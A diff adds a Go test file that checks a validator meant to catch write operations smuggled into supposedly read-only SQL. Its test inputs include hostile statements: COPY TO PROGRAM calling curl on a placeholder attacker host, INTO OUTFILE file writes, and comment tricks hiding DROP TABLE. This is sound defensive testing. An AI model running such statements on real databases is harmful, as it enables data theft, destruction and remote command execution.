@@ -0,0 +1,55 @@
+package server
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestSmuggledWrite(t *testing.T) {
+	tests := []struct {
+		typ, sql string
+		want     string // substring of the description, "" for none
+	}{
+		{"postgres", "SELECT id, 'INTO' AS word FROM users WHERE note = 'copy to'", ""},
+		{"postgres", "SELECT $$ INTO $$, $tag$ COPY $tag$, $1 FROM t", ""},
+		{"sqlserver", "SELECT [into], \"copy\" FROM [select into]", ""},
+		{"sqlserver", "SELECT * INTO #tmp FROM users", "creates a table"},
+		{"sqlserver", "SELECT name INTO archive.dbo.users FROM users", "creates a table"},
+		{"postgres", "select * into temp backup from users", "creates a table"},
+		{"mysql", "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'", "INTO OUTFILE writes a file"},
+		{"mysql", "SELECT COUNT(*) INTO @n FROM users", "variables"},
+		{"postgres", "CREATE TABLE copy AS SELECT * FROM users", "CREATE TABLE ... AS"},
+		{"postgres", "CREATE MATERIALIZED VIEW v AS SELECT 1", "CREATE VIEW ... AS"},
+		{"postgres", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", "runs a shell command"},
+		{"postgres", "COPY users TO '/tmp/users'", "COPY ... TO"},
+		{"postgres", "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "DELETE inside a WITH clause"},
+		{"postgres", "WITH x AS MATERIALIZED (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM x", "INSERT inside a WITH clause"},
+		// A string or comment marker that the database reads differently
+		// cannot hide a construct.
+		{"postgres", "SELECT $$'$$ INTO t FROM users --'", "creates a table"},
+		{"postgres", "SELECT E'\\'' INTO t FROM users --'", "creates a table"},
+		{"mysql", "SELECT '\\'' INTO OUTFILE '/tmp/x' -- '", "INTO OUTFILE"},
+		{"mysql", "SELECT 1--1 INTO OUTFILE '/tmp/x'", "INTO OUTFILE"},
+		{"sqlite", "SELECT '--'; DROP TABLE users", `"DROP"`},
+		{"", "SELECT * INTO backup FROM users", "creates a table"},
+	}
+	for _, tt := range tests {
+		got := smuggledWrite(tt.typ, tt.sql)
+		if tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
+			t.Errorf("smuggledWrite(%s, %q) = %q, want %q", tt.typ, tt.sql, got, tt.want)
+		}
+	}
+}
+
+func TestValidateReadOnlySQLFor(t *testing.T) {
+	if err := ValidateReadOnlySQLFor("sqlserver", "SELECT * INTO copy FROM users"); !errors.Is(err, ErrNotReadOnly) {
+		t.Errorf("SELECT INTO: err = %v, want ErrNotReadOnly", err)
+	}
+	if err := ValidateReadOnlySQLFor("postgres", "SELECT 1"); err != nil {
+		t.Errorf("SELECT 1: %v", err)
+	}
+	if err := ValidateReadOnlySQLFor("postgres", " -- nothing"); err == nil || errors.Is(err, ErrNotReadOnly) {
+		t.Errorf("empty statement: err = %v", err)
+	}
+}